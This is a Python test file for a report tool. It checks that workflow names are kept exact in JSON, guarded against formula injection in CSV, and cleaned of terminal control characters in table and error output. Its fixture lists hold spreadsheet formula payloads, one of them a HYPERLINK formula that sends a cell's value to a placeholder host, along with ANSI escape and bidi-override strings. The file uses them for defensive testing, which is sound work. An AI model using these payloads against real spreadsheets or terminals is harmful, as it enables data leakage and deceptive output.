# SPDX-License-Identifier: GPL-3.0-or-later
"""Names are other people's text: no formulas in CSV, no control of the terminal, exact in JSON."""
import csv
import io

import support

START = 1_772_366_400 * 10**9
FORMULAS = ["=1+1", "+1+cmd", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://x/?\"&A1,\"y\")",
            "'=1+1", "\"=1+1", " =1+1", "'\"=1+1"]
PLAIN = ["ordinary", "comma, inside", "quote \" inside", "line\nbreak", "carriage\rreturn", "größe 見積 ✓", "a=b", "x-1"]
HOSTILE = ["\x1b[2J\x1b]0;owned\x07", "\x9b2J", "nul\x00in", "\u202egnp.exe", "\u2066hidden\u2069", "\u200fright",
           "line\u2028sep", "back\x08space", "del\x7f"]
FORMULA_STARTS = "=+-@\t\r"


class Names(support.Case):
    def write(self, names):
        path = self.folder / "spans.jsonl"
        spans = []
        for number, name in enumerate(names, 1):
            spans.append(support.chat(number, number, number + 1000, START + number))
            spans.append(support.workflow(number, number + 1000, name, START, START + number + 1))
        path.write_text(support.export(spans))
        return path

    def csv_of(self, *words):
        result = self.run_ctl("report", *words, "--format", "csv")
        self.assertEqual(result.returncode, 0, result.stderr)
        return list(csv.DictReader(io.StringIO(result.stdout.decode(), newline="")))

    def test_json_keeps_names_as_they_are(self):
        names = FORMULAS + PLAIN + HOSTILE
        report = self.report(self.write(names), "--by", "workflow")
        self.assertEqual(sorted(g["key"]["workflow"] for g in report["groups"]), sorted(names))
        self.assertEqual(report["totals"]["calls"], len(names))

    def test_csv_holds_no_formula(self):
        names = FORMULAS + PLAIN
        source = self.write(names)
        for words in ((source,), (source, "--tz", "+05:30")):
            rows = self.csv_of(*words, "--by", "workflow,day")
            self.assertEqual(len(rows), len(names))
            for row in rows:
                cell = row["workflow"]
                self.assertNotIn(cell[:1], FORMULA_STARTS, repr(cell))
                # Spreadsheets strip blanks, quotes and apostrophes of an imported cell; our own mark stays in front.
                self.assertTrue(cell.startswith("'") or cell.lstrip(" '\"")[:1] not in FORMULA_STARTS, repr(cell))
                self.assertIsNone(row.get(None), "a name broke the columns")
                self.assertEqual(row["calls"], "1")
            cells = [row["workflow"] for row in rows]
            for name in PLAIN:
                self.assertIn(name, cells)
            for name in FORMULAS:
                self.assertIn("'" + name, cells)

    def test_csv_sums_equal_json(self):
        source = self.write(FORMULAS + PLAIN + HOSTILE)
        report = self.report(source, "--by", "workflow")
        rows = self.csv_of(source, "--by", "workflow")
        self.assertEqual(sum(int(r["cost_nusd"]) for r in rows), report["totals"]["cost_nusd"])
        self.assertEqual(sum(int(r["in_fresh"]) for r in rows), report["totals"]["tokens"]["in_fresh"])
        self.assertEqual({r["cost_bound"] for r in rows}, {"exact"})

    def test_table_cannot_drive_the_terminal(self):
        names = HOSTILE + PLAIN
        result = self.run_ctl("report", self.write(names), "--by", "workflow")
        self.assertEqual(result.returncode, 0, result.stderr)
        text = result.stdout.decode()
        for mark in "\x1b\x07\x00\x08\x7f\r\x9b\u202e\u2066\u2069\u200f\u2028":
            self.assertNotIn(mark, text, repr(mark))
        self.assertEqual(text.count("\n"), len(names) + 2, "a name made lines of its own")
        self.assertIn("größe 見積 ✓", text)

    def test_unpriced_names_too(self):
        path = self.folder / "spans.jsonl"
        path.write_text(support.export([support.chat(1, 1, 0, START, model="\x1b[31mno-such-model\x9b2J")]))
        text = self.run_ctl("report", path).stdout.decode()
        self.assertIn("no price: ", text)
        self.assertNotIn("\x1b", text)
        self.assertNotIn("\x9b", text)
        totals = self.report(path)["totals"]
        self.assertEqual((totals["calls_unpriced"], totals["cost_bound"]), (1, "at_least"))

    def test_errors_are_one_line(self):
        for word in ("otlp-json:/nowhere/\x1b[2J\nline", "fr\x1bob:x", "/no\nwhere"):
            text = self.refused("report", word)
            self.assertNotIn("\x1b", text)


if __name__ == "__main__":
    support.main()
